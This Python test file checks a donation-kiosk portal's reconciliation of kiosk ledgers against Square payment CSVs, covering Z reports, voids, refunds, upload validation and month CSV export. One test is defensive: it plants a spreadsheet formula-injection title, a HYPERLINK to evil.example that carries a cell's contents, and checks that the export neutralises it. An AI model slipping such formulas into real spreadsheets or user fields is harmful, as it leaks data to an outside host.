"""Reconciliation per kiosk and day (server_sync/reconcile.py), against a real portal on loopback (SQLite and
PostgreSQL) and in headless Chromium: a Z report, donations after it the same day, voids before and after it,
and a provider file that disagrees by one payment; each difference shown where it belongs. The provider file's
checks (all or nothing), and the month's CSV for the city (BOM, exact totals).
"""

from __future__ import annotations

import csv
import html
import io
import uuid
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import requests
from sqlalchemy import func, select
from sync_helpers import PASSWORD, PROJECTS, enrolled, fake_idm, needs_chromium, staff_page

from kiosk.ledger.writer import InlineWriter
from kiosk.payment.sim import SimulatedTerminal
from kiosk.staff import refund
from kiosk.staff.closeout import z_report
from kiosk.staff.gate import StaffSession
from server_sync import queries, reconcile
from server_sync.configstore import publish
from server_sync.db import provider_imports, provider_payments
from server_sync.staff import add_user

TOKYO = ZoneInfo("Asia/Tokyo")
SQUARE_HEADER = ["Date", "Time", "Time Zone", "Gross Sales", "Partial Refunds", "Total Collected", "Transaction ID",
                 "Payment ID", "Device Name", "Event Type"]


def give(rig, project: str, amount: int, ref: str, card: int = 1):  # noqa: ANN001, ANN201
    """A donation paid on Square: the payment id is what the kiosk records as provider_ref."""
    intent = rig.ledger.record_intent(project, amount, "square", rig.pepper.token(fake_idm(card)), uuid.uuid4().hex)
    rig.clock.advance(700)
    return rig.ledger.record_donation(intent.seq, ref, amount // 100)


def square_csv(rows: list[list[str]], header: list[str] = SQUARE_HEADER, bom: bool = True) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode()


def payment_row(entry, kiosk_id: str, amount: int | None = None, pid: str | None = None) -> list[str]:  # noqa: ANN001
    t = datetime.fromtimestamp(entry.obj["wall_ms"] / 1000, TOKYO)
    yen = amount if amount is not None else entry.data["amount_yen"]
    return [t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), "Tokyo", f"¥{yen:,}", "¥0", f"¥{yen:,}",
            "tx-" + (pid or entry.data["provider_ref"]), pid or entry.data["provider_ref"], kiosk_id, "Payment"]


def refund_row(entry) -> list[str]:  # noqa: ANN001
    t = datetime.fromtimestamp(entry.obj["wall_ms"] / 1000 + 60, TOKYO)
    yen = entry.data["amount_yen"]
    return [t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), "Tokyo", f"-¥{yen:,}", "¥0", f"-¥{yen:,}",
            "tx-r-" + entry.data["provider_ref"], entry.data["provider_ref"], "", "Refund"]


def the_day(rig, portal):  # noqa: ANN001, ANN201
    """Five donations, one voided before the Z report; the Z; two more; one the Z counted voided after it."""
    publish(portal.app.state.engine, {"projects": PROJECTS})
    d = [give(rig, p, y, f"sq-pay-{i}") for i, (p, y) in enumerate(
        [("kodomo", 100), ("midori", 500), ("ongaku", 1000), ("kodomo", 300), ("midori", 200)], start=1)]
    rig.ledger.void(d[1].seq, "refund sq-ref-1")
    z = z_report(InlineWriter(rig.ledger))
    d += [give(rig, "kodomo", 700, "sq-pay-6"), give(rig, "ongaku", 1000, "sq-pay-7")]
    rig.ledger.void(d[2].seq, "refund sq-ref-2")
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    return d, z


def provider_file(rig, d) -> bytes:  # noqa: ANN001
    """Square's export of the day: every payment, the two refunds, and one payment the ledger never recorded."""
    extra = payment_row(d[-1], rig.kiosk_id, amount=400, pid="sq-pay-X")
    return square_csv([payment_row(e, rig.kiosk_id) for e in d] + [refund_row(d[1]), refund_row(d[2]), extra])


def login(url: str) -> requests.Session:
    s = requests.Session()
    r = s.post(url + "/staff/login", data={"username": "clerk", "password": PASSWORD}, timeout=10)
    assert r.status_code == 200
    return s


def csrf(s: requests.Session, url: str) -> str:
    html = s.get(url + "/staff/reconciliation", timeout=10).text
    return html.split('name="csrf" value="')[1].split('"')[0]


def upload(s: requests.Session, url: str, body: bytes, name: str = "square.csv") -> requests.Response:
    return s.post(url + "/staff/reconciliation/provider", data={"csrf": csrf(s, url), "provider": "square"},
                  files={"file": (name, body, "text/csv")}, timeout=10)


def stored(engine) -> tuple[int, int]:  # noqa: ANN001
    with engine.connect() as conn:
        return (conn.execute(select(func.count()).select_from(provider_imports)).scalar_one(),
                conn.execute(select(func.count()).select_from(provider_payments)).scalar_one())


# --- the day, over HTTP --------------------------------------------------------------------------------
def test_z_report_later_donations_voids_and_a_provider_file_one_payment_off(portal, rig):
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    d, z = the_day(rig, portal)
    day = rig.ledger.business_date()
    kid = rig.kiosk_id

    r = reconcile.kiosk_day(engine, kid, day)
    assert r is not None
    # The Z report: four donations (the one voided before it is not among them), and the portal agrees.
    assert (r["z"]["count"], r["z"]["total_yen"]) == (4, 1600) == (z.data["count"], z.data["total_yen"])
    assert r["closeouts"][0]["match"]
    # After it: two donations (¥1,700), and a void of a donation it counted (¥1,000); held: none.
    assert (r["after_close"]["count"], r["after_close"]["total_yen"]) == (2, 1700)
    assert (r["voided_after_close"]["count"], r["voided_after_close"]["total_yen"]) == (1, 1000)
    assert (r["voided"]["count"], r["voided"]["total_yen"]) == (2, 1500)
    # The portal now: what the kiosk's own ledger says now, and what the public totals say.
    assert (r["portal"]["count"], r["portal"]["total_yen"]) == (5, 2300)
    assert rig.ledger.totals()["total_yen"] == 2300 == queries.totals(engine)["total_yen"]
    assert r["z"]["total_yen"] + r["after_close"]["total_yen"] - r["voided_after_close"]["total_yen"] \
        == r["portal"]["total_yen"]
    assert r["ok"] and not r["settled"]  # no error, but not "match": the day has notes
    assert r["provider"] is None

    s = login(portal.url)
    page = s.get(portal.url + "/staff/reconciliation", params={"month": day.strftime("%Y-%m")}, timeout=10).text
    assert "締め後の寄付 2 件（¥1,700）" in page and "締め後に取り消し 1 件（¥1,000）" in page
    assert "✓ 一致" not in page  # never "match 4/¥1,600" while the portal holds more

    # The provider's file: one payment the ledger does not have.
    ok = upload(s, portal.url, provider_file(rig, d))
    assert ok.status_code == 200, ok.text[-2000:]
    assert "決済事業者の明細から 8 件の決済を取り込みました。" in ok.text
    assert stored(engine) == (1, 8)
    r = reconcile.kiosk_day(engine, kid, day)
    assert r["provider"]["differences"] == 1 and not r["ok"]
    assert [p["payment_id"] for p in r["provider_only"]] == ["sq-pay-X"]
    assert all(row["provider"]["status"] == "ok" for row in r["rows"]), r["rows"]
    assert (r["provider"]["count"], r["provider"]["total_yen"], r["provider"]["refunded_yen"],
            r["provider"]["net_yen"]) == (8, 4200, 1500, 2700)
    assert r["provider"]["net_yen"] - r["provider"]["ledger_yen"] == 400  # the one payment

    # The same file again replaces its rows: nothing is counted twice.
    assert upload(s, portal.url, provider_file(rig, d)).status_code == 200
    assert stored(engine) == (2, 8)


def test_a_provider_file_with_any_problem_stores_nothing(portal, rig):
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    d, _ = the_day(rig, portal)
    s = login(portal.url)
    good = [payment_row(e, rig.kiosk_id) for e in d]
    cases = {
        "no Payment ID column": (square_csv([r[:7] for r in good], SQUARE_HEADER[:7]), "列がありません: 'Payment ID'"),
        "a bad amount on one line": (square_csv(good[:3] + [good[3][:5] + ["たくさん"] + good[3][6:]] + good[4:]),
                                     "5 行目: 「たくさん」は円の金額ではありません。"),
        "a bad date": (square_csv([["2026-13-40"] + good[0][1:]] + good[1:]),
                       "2 行目: 「2026-13-40」は日付ではありません"),
        "a payment twice": (square_csv(good + [good[0]]), "決済 sq-pay-1 が2回あります"),
        "a refund of an unknown payment": (square_csv(good + [refund_row(d[1])[:7] + ["sq-nope", "", "Refund"]]),
                                           "このファイルにない決済 sq-nope の返金です"),
        "a picture": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe\x00\x81", "CSV"),
        "empty": (b"", "ファイルが空です"),
        "a header only": (square_csv([]), "決済がありません"),
    }
    for what, (body, message) in cases.items():
        r = upload(s, portal.url, body)
        assert r.status_code == 422, what
        text = html.unescape(r.text)
        assert "何も取り込んでいません" in text and message in text, (what, text[-3000:])
        assert stored(engine) == (0, 0), what
    # No file chosen, and a form without its CSRF token.
    r = s.post(portal.url + "/staff/reconciliation/provider", data={"csrf": csrf(s, portal.url), "provider": "square"},
               files={"file": ("", b"", "application/octet-stream")}, timeout=10)
    assert r.status_code == 422 and "明細（CSV ファイル）を選んでください" in r.text
    r = s.post(portal.url + "/staff/reconciliation/provider", data={"provider": "square"},
               files={"file": ("a.csv", square_csv(good), "text/csv")}, timeout=10)
    assert r.status_code == 403 and stored(engine) == (0, 0)
    # Excel on a Japanese PC saves Shift_JIS with Japanese amounts: accepted.
    sjis = square_csv([[*g[:3], f"{e.data['amount_yen']:,}円", "0", f"{e.data['amount_yen']:,}円", *g[6:]]
                       for g, e in zip(good, d, strict=True)], bom=False).decode().encode("cp932")
    r = upload(s, portal.url, sjis)
    assert r.status_code == 200 and stored(engine) == (1, 7)


def test_the_month_csv_opens_in_excel_with_exact_totals(portal, rig):
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    d, _ = the_day(rig, portal)
    s = login(portal.url)
    assert upload(s, portal.url, provider_file(rig, d)).status_code == 200
    month = rig.ledger.business_date().strftime("%Y-%m")
    r = s.get(portal.url + "/staff/reconciliation.csv", params={"month": month}, timeout=10)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert f'filename="reconciliation-{month}.csv"' in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(reconcile.CSV_HEADER)
    [total] = [x for x in rows if x["row"] == "total"]
    assert total["kiosk_id"] == rig.kiosk_id and total["business_date"] == rig.ledger.business_date().isoformat()
    assert (total["count"], total["total_yen"], total["z_count"], total["z_total_yen"]) == ("5", "2300", "4", "1600")
    assert (total["after_close_count"], total["after_close_yen"], total["voided_count"], total["voided_yen"]) == \
        ("2", "1700", "2", "1500")
    assert (total["provider_count"], total["provider_net_yen"], total["status"]) == ("8", "2700", "difference")
    by_project = {x["project_id"]: (int(x["count"]), int(x["total_yen"])) for x in rows if x["row"] == "project"}
    assert by_project == {p["id"]: (p["count"], p["total_yen"]) for p in queries.totals(engine)["projects"]}
    assert sum(y for _, y in by_project.values()) == int(total["total_yen"])
    titles = {x["project_id"]: x["project_title"] for x in rows if x["row"] == "project"}
    assert titles["kodomo"] == "こども食堂"  # Japanese survives the round trip
    assert not any(rig.pepper.token(fake_idm(1)).hex in line for line in r.text.splitlines())  # no donor token


def test_the_month_csv_never_turns_an_editors_title_into_a_formula(portal, rig):
    """A title or group name typed as a formula opens in Excel as text (server_sync/csvsafe.py); the yen stay
    numbers, the date a date."""
    from server_sync import catalog

    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    the_day(rig, portal)
    evil = '=HYPERLINK("http://evil.example/?"&A2,"詳細")'
    catalog.import_catalog(engine, {"groups": [{"id": "evil-club", "name": "-2+3"}], "projects": [
        {"id": "kodomo", "group_id": "evil-club", "title": evil, "area": "children", "goal_yen": 5000},
        {"id": "midori", "group_id": "evil-club", "title": "@SUM(A1:A9)", "area": "green", "goal_yen": 8000}]})
    s = login(portal.url)
    r = s.get(portal.url + "/staff/reconciliation.csv",
              params={"month": rig.ledger.business_date().strftime("%Y-%m")}, timeout=10)
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    got = {x["project_id"]: (x["project_title"], x["group"]) for x in rows if x["row"] == "project"}
    assert got == {"kodomo": ("'" + evil, "'-2+3"), "midori": ("'@SUM(A1:A9)", "'-2+3"), "ongaku": ("音楽祭", "")}
    assert all(int(x["total_yen"]) > 0 and x["business_date"] == rig.ledger.business_date().isoformat()
               for x in rows)


def test_a_refused_refund_leaves_the_gift_counted_and_matching_the_provider(portal, rig, tmp_path):
    """The bank refused a refund (REJECTED at the provider): no money moved, so the kiosk wrote no void, only the
    signed admin_action of the attempt. The portal counts the gift, and the provider's file (the payment, no
    refund) matches it row for row: a refused refund is no difference to chase."""
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    publish(engine, {"projects": PROJECTS})
    term = SimulatedTerminal(tmp_path / "provider.db")
    term.refund_steps = ("REJECTED",)  # the provider refuses every refund
    term.card_seen(rig.pepper.token(fake_idm(1)).hex, 2000)
    paid = term.charge(500, "charge-1")
    assert paid.status == "approved"
    d = [give(rig, "kodomo", 500, paid.provider_ref), give(rig, "midori", 300, "sq-pay-2")]
    [victim] = [x for x in refund.refundable(rig.ledger, "square") if x.seq == d[0].seq]
    writer = InlineWriter(rig.ledger)
    # Recorded as the menu records it (kiosk/staff/menu/model.py, _do_refund_run): a staff session's signed
    # admin_action with the attempt, its key and the provider's answer.
    with StaffSession(writer, "pin").action("refund", donation_seq=victim.seq, reference=victim.reference,
                                            amount_yen=victim.amount_yen, refund_attempt=victim.refund_attempt,
                                            refund_key=refund.refund_key(rig.kiosk_id, victim.seq,
                                                                         victim.refund_attempt)) as record:
        result, void = refund.refund_donation(writer, term.refund, rig.kiosk_id, victim)
        record.update(refund_id=result.refund_id, refund_status=result.status)
    assert (result.status, void) == ("REJECTED", None)
    [after] = [x for x in refund.refundable(rig.ledger, "square") if x.seq == d[0].seq]
    assert after.refund_status == "REJECTED"  # the signed trail holds the refused attempt; the gift stands
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    term.close()

    day = rig.ledger.business_date()
    r = reconcile.kiosk_day(engine, rig.kiosk_id, day)
    assert (r["portal"]["count"], r["portal"]["total_yen"]) == (2, 800) == \
        (rig.ledger.totals()["count"], rig.ledger.totals()["total_yen"])
    assert r["voided"]["count"] == 0
    s = login(portal.url)
    assert upload(s, portal.url, square_csv([payment_row(e, rig.kiosk_id) for e in d])).status_code == 200
    r = reconcile.kiosk_day(engine, rig.kiosk_id, day)
    assert [row["provider"]["status"] for row in r["rows"]] == ["ok", "ok"], r["rows"]
    assert (r["provider"]["refunded_yen"], r["provider"]["net_yen"], r["provider"]["differences"]) == (0, 800, 0)
    assert r["ok"] and not r["provider_only"]


# --- pure: the differences a provider file can show ---------------------------------------------------------
def test_each_kind_of_provider_difference_lands_on_its_row():
    D = reconcile.Donation
    day = date(2026, 12, 1)
    donations = [D(2, 0, "a", 100, "square", "p1"), D(3, 0, "a", 500, "square", "p2"),
                 D(4, 0, "b", 300, "square", "p3", void_seq=9), D(5, 0, "b", 200, "square", "p4"),
                 D(6, 0, "b", 900, "square", "p5"), D(7, 0, "b", 50, "sim", "sim-7")]

    def pay(pid: str, yen: int, refunded: int = 0) -> dict:
        return {"provider": "square", "payment_id": pid, "business_date": day, "time_ms": None, "amount_yen": yen,
                "refunded_yen": refunded, "device": "k1"}
    payments = {("square", p["payment_id"]): p for p in
                [pay("p1", 100), pay("p2", 600), pay("p3", 300), pay("p4", 200, refunded=200)]}
    r = reconcile.reconcile_day("k1", day, donations, [], payments, [pay("p9", 700)], {"square"})
    status = {row["seq"]: (row["provider"] or {}).get("status") for row in r["rows"]}
    assert status == {2: "ok", 3: "amount", 4: "voided_not_refunded", 5: "refund_not_voided", 6: "missing",
                      7: None}  # a simulator payment is no provider's
    assert [p["payment_id"] for p in r["provider_only"]] == ["p9"]
    assert r["provider"]["differences"] == 5 and not r["ok"]
    # A day no file covers: no provider column at all, and no "missing".
    r = reconcile.reconcile_day("k1", day, donations, [], {}, [], set())
    assert r["provider"] is None and r["ok"] and all(row["provider"] is None for row in r["rows"])


def test_provider_amounts_and_dates_in_the_forms_spreadsheets_write():
    assert [reconcile.parse_yen(t) for t in ("¥1,000", "JP¥1,000", "1,000円", "-¥500", "(¥500)", "1000.00", "1.5",
                                               "")] == [1000, 1000, 1000, -500, -500, 1000, None, None]
    assert reconcile.parse_date("2026/12/01") == reconcile.parse_date("12/01/2026") == date(2026, 12, 1)
    assert reconcile.parse_date("2026-02-30") is None


# --- in Chromium -------------------------------------------------------------------------------------------------


@needs_chromium
def test_staff_see_each_difference_where_it_belongs_in_chromium(portal, rig, browser):
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    d, z = the_day(rig, portal)
    day = rig.ledger.business_date()
    page = staff_page(browser, portal.url, "clerk", size=(1000, 900))
    page.goto(f"{portal.url}/staff/reconciliation?month={day:%Y-%m}")
    csv_path = rig.cfg.kiosk.data_dir / "square-export.csv"
    csv_path.write_bytes(provider_file(rig, d))
    page.select_option("#f-provider", "square")
    page.set_input_files("#f-file", str(csv_path))
    page.click("#import button[type=submit]")
    assert "8 件の決済を取り込みました" in page.locator("#notice").inner_text()

    row = page.locator(f"#reconciliation tr[data-kiosk='{rig.kiosk_id}'][data-day='{day}']")
    assert row.locator("td.z").inner_text() == "4 件 / ¥1,600"
    assert row.locator("td.portal").inner_text() == "5 件 / ¥2,300"
    assert row.locator("td.provider").inner_text() == "8 件 / ¥2,700"
    status = row.locator("td.status").inner_text()
    assert "決済事業者の明細との差異 1 件" in status and "締め後の寄付 2 件（¥1,700）" in status

    row.locator("a").click()
    page.wait_for_url(f"**/staff/reconciliation/{rig.kiosk_id}/{day}")
    sides = page.locator("#sides")
    assert sides.locator("tr[data-row=count] td.z").inner_text() == "4"
    assert sides.locator("tr[data-row=count] td.portal").inner_text() == "5"
    assert sides.locator("tr[data-row=count] td.provider").inner_text() == "8"
    assert sides.locator("tr[data-row=after] td.portal").inner_text() == "2 件 / ¥1,700"
    assert page.locator(f"#closeouts tr[data-seq='{z.seq}'] td.ok").inner_text() == "一致"
    assert "¥1,600 + 締め後 ¥1,700 − 締め後の取り消し ¥1,000 − 保留 ¥0 = ポータル ¥2,300" in \
        page.locator("#bridge").inner_text()
    rows = page.locator("#donations")
    for e in d[:5]:
        assert rows.locator(f"tr[data-seq='{e.seq}'] td.zstate").inner_text() == "日計に含む"
    for e in d[5:]:
        assert "締め後" in rows.locator(f"tr[data-seq='{e.seq}'] td.zstate").inner_text()
    assert rows.locator(f"tr[data-seq='{d[1].seq}'] td.void").inner_text().startswith("取り消し（#")
    assert "締め後" not in rows.locator(f"tr[data-seq='{d[1].seq}'] td.void").inner_text()
    assert "締め後" in rows.locator(f"tr[data-seq='{d[2].seq}'] td.void").inner_text()
    assert rows.locator("tr[data-seq] td.provider .bad").count() == 0  # every ledger payment is at the provider
    extra = rows.locator("tr.provider-only[data-payment='sq-pay-X']")
    assert extra.count() == 1 and "¥400" in extra.inner_text() and "決済事業者の明細にだけ" in extra.inner_text()
    page.close()


def test_a_provider_payment_no_kiosk_has_is_shown_on_its_day(portal, rig):
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    d, _ = the_day(rig, portal)
    day = rig.ledger.business_date()
    s = login(portal.url)
    stray = payment_row(d[0], "", amount=1200, pid="sq-pay-elsewhere")  # another terminal, no device name
    # A payment on the kiosk's terminal the day before, when its ledger recorded nothing at all.
    before = payment_row(d[0], rig.kiosk_id, amount=300, pid="sq-pay-yesterday")
    yesterday = day - timedelta(days=1)
    before[0] = yesterday.isoformat()
    rows = [payment_row(e, rig.kiosk_id) for e in d[:1]] + [stray, before]
    assert upload(s, portal.url, square_csv(rows)).status_code == 200
    y = reconcile.kiosk_day(engine, rig.kiosk_id, yesterday)
    assert y is not None and [p["payment_id"] for p in y["provider_only"]] == ["sq-pay-yesterday"] and not y["ok"]
    items = reconcile.kiosk_days(engine, day, day)
    [orphan] = [i for i in items if i["kiosk_id"] == ""]
    assert [p["payment_id"] for p in orphan["provider_only"]] == ["sq-pay-elsewhere"] and not orphan["ok"]
    page = s.get(portal.url + "/staff/reconciliation", params={"month": f"{day:%Y-%m}"}, timeout=10).text
    row = page[page.index(f'<tr data-kiosk="" data-day="{day}">'):]
    row = row[:row.index("</tr>")]
    assert "sq-pay-elsewhere ¥1,200" in row and "どの端末の寄付とも合わない決済 1 件" in row
    # The kiosk's own day: the file covers it, so the payments it lacks are marked on their rows.
    r = reconcile.kiosk_day(engine, rig.kiosk_id, day)
    assert [row["provider"]["status"] for row in r["rows"]] == ["ok"] + ["missing"] * 6
    out = s.get(portal.url + "/staff/reconciliation.csv", params={"month": f"{day:%Y-%m}"}, timeout=10)
    rows = list(csv.DictReader(io.StringIO(out.content.decode("utf-8-sig"), newline="")))
    [only] = [x for x in rows if x["row"] == "provider_only"]
    assert only["provider_net_yen"] == "1200" and "sq-pay-elsewhere" in only["status"]


def test_month_csv_project_rows_add_up_to_the_z_report_of_their_total_row(portal, rig):
    """The Z counted ¥100 kodomo and ¥1,000 ongaku; the ongaku gift was refunded after the Z, so the portal no
    longer counts ongaku at all. The accountant sums the day's project rows and must get the total row, on the
    Z's columns as on the portal's: ongaku gets its row, 0 on the portal's side."""
    publish(portal.app.state.engine, {"projects": PROJECTS})
    give(rig, "kodomo", 100, "sq-pay-1")
    ongaku = give(rig, "ongaku", 1000, "sq-pay-2")
    z = z_report(InlineWriter(rig.ledger))
    assert (z.data["count"], z.data["total_yen"]) == (2, 1100)
    rig.ledger.void(ongaku.seq, "refunded at the desk after the close-out")
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    day = rig.ledger.business_date()
    text = reconcile.month_csv(portal.app.state.engine, day.replace(day=1), day)
    rows = [r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if r["kiosk_id"] == rig.kiosk_id]
    [total] = [r for r in rows if r["row"] == "total"]
    projects = {r["project_id"]: r for r in rows if r["row"] == "project"}
    assert (total["z_count"], total["z_total_yen"], total["count"], total["total_yen"]) == ("2", "1100", "1", "100")
    for z_col, col in (("z_count", "count"), ("z_total_yen", "total_yen")):
        assert sum(int(r[z_col]) for r in projects.values()) == int(total[z_col])
        assert sum(int(r[col]) for r in projects.values()) == int(total[col])
    o = projects["ongaku"]
    assert (o["count"], o["total_yen"], o["z_count"], o["z_total_yen"]) == ("0", "0", "1", "1000")
    assert o["project_title"] == "音楽祭"


def test_after_close_note_counts_the_same_gifts_as_its_yen(portal, rig):
    """Two gifts after the Z, one of them voided: the "after the close-out" row and its note both say 1 / ¥700,
    never a count of both gifts beside the amount of one."""
    publish(portal.app.state.engine, {"projects": PROJECTS})
    give(rig, "kodomo", 100, "sq-pay-1")
    z_report(InlineWriter(rig.ledger))
    give(rig, "kodomo", 700, "sq-pay-2")
    late = give(rig, "ongaku", 1000, "sq-pay-3")
    rig.ledger.void(late.seq, "charged twice")
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    r = reconcile.kiosk_day(portal.app.state.engine, rig.kiosk_id, rig.ledger.business_date())
    assert r is not None and (r["after_close"]["count"], r["after_close"]["total_yen"]) == (1, 700)
    [note] = [m for m in r["notes"] if "after the close-out: not in the Z report" in reconcile.said(m, "en")]
    assert (note[1]["count"], note[1]["yen"]) == (1, "¥700")
    assert reconcile.said(note, "en") == "1 donation, ¥700, after the close-out: not in the Z report."


def test_z_report_with_wrong_method_totals_is_not_shown_as_matching(portal, rig):
    """The kiosk's Z says the day's ¥1,100 came by "sim" and its points are off; every gift was "square". The
    accountant books by payment method from the Z: the portal must not say 一致 (match)."""
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    publish(engine, {"projects": PROJECTS})
    a = give(rig, "kodomo", 100, "sq-pay-1")
    b = give(rig, "ongaku", 1000, "sq-pay-2")
    day = rig.ledger.business_date()
    rig.ledger.append("close_out", {
        "business_date": day.isoformat(), "first_seq": a.seq, "last_seq": b.seq, "count": 2, "total_yen": 1100,
        "projects": [{"id": "kodomo", "count": 1, "total_yen": 100}, {"id": "ongaku", "count": 1, "total_yen": 1000}],
        "methods": [{"method": "sim", "count": 2, "total_yen": 1100}], "points": 12, "trigger": "staff"})
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    r = reconcile.kiosk_day(engine, rig.kiosk_id, day)
    assert r is not None and r["portal"]["methods"] == [{"method": "square", "count": 2, "total_yen": 1100}]
    c = r["closeouts"][0]
    assert not c["match"] and not r["ok"]
    assert [m for m, _ in c["differences"]] == ["per-method totals differ",
                                                "points: kiosk %(kiosk)s, portal %(portal)s"]
    page = login(portal.url).get(f"{portal.url}/staff/reconciliation/{rig.kiosk_id}/{day}", timeout=10).text
    assert "支払い方法別の合計が違います" in page and "ポイント: 端末 12、ポータル 11" in page


# --- one payment, two donations; a voided gift refunded only in part --------------------------------------------
def test_a_payment_recorded_twice_and_a_short_refund_are_differences_not_matches(portal, rig):
    """The terminal answered a second gift with its previous payment's id (the kiosk recorded sq-pay-1 twice), and
    a voided ¥500 gift was refunded only ¥200 at the provider. Each is money the ledger and the provider disagree
    on: the provider collected ¥1,000 once, not twice, and kept ¥300 the ledger says went back. Neither may pass as
    "✓": each is a difference on its own row, in Japanese, and the payment is counted once."""
    engine = portal.app.state.engine
    add_user(engine, "clerk", PASSWORD)
    publish(engine, {"projects": PROJECTS})
    d = [give(rig, "kodomo", 1000, "sq-pay-1"), give(rig, "midori", 1000, "sq-pay-1"),
         give(rig, "ongaku", 500, "sq-pay-3")]
    rig.ledger.void(d[2].seq, "refund sq-ref-3")
    rig.ledger.checkpoint()
    assert enrolled(rig, portal).sync_once().ok
    day, kid = rig.ledger.business_date(), rig.kiosk_id
    short = payment_row(d[2], kid)
    short[SQUARE_HEADER.index("Partial Refunds")] = "¥200"
    s = login(portal.url)
    assert upload(s, portal.url, square_csv([payment_row(d[0], kid), short])).status_code == 200

    r = reconcile.kiosk_day(engine, kid, day)
    assert [row["provider"]["status"] for row in r["rows"]] == ["ok", "twice", "refund_partial"], r["rows"]
    assert r["rows"][1]["provider"]["seq"] == d[0].seq
    p = r["provider"]
    assert (p["count"], p["total_yen"], p["refunded_yen"], p["net_yen"]) == (2, 1500, 200, 1300)  # the file's
    assert (p["ledger_count"], p["ledger_yen"]) == (2, 2000)
    assert p["differences"] == 2 and not r["ok"] and not r["settled"]

    page = s.get(f"{portal.url}/staff/reconciliation/{kid}/{day}", timeout=10).text
    row = page[page.index(f'<tr data-seq="{d[1].seq}">'):]
    assert f"寄付 #{d[0].seq} と同じ決済です" in html.unescape(row[:row.index("</tr>")])
    row = page[page.index(f'<tr data-seq="{d[2].seq}">'):]
    assert "決済事業者の返金は ¥200 だけです" in html.unescape(row[:row.index("</tr>")])
    assert "決済事業者の明細との差異 2 件" in html.unescape(page)


def test_a_second_record_of_a_payment_the_ledger_voided_is_no_difference():
    """The same payment recorded twice, the second record voided without a refund (nothing was charged twice): the
    ledger counts the payment once, as the provider does; the row still names the first donation."""
    D = reconcile.Donation
    day = date(2026, 12, 1)
    donations = [D(2, 0, "a", 1000, "square", "p1"), D(3, 0, "a", 1000, "square", "p1", void_seq=4)]
    pay = {"provider": "square", "payment_id": "p1", "business_date": day, "time_ms": None, "amount_yen": 1000,
           "refunded_yen": 0, "device": "k1"}
    r = reconcile.reconcile_day("k1", day, donations, [], {("square", "p1"): pay}, [pay], {"square"})
    assert [(row["provider"] or {}).get("status") for row in r["rows"]] == ["ok", "twice"]
    assert (r["provider"]["count"], r["provider"]["net_yen"], r["provider"]["ledger_yen"]) == (1, 1000, 1000)
    assert r["provider"]["differences"] == 0 and r["ok"]
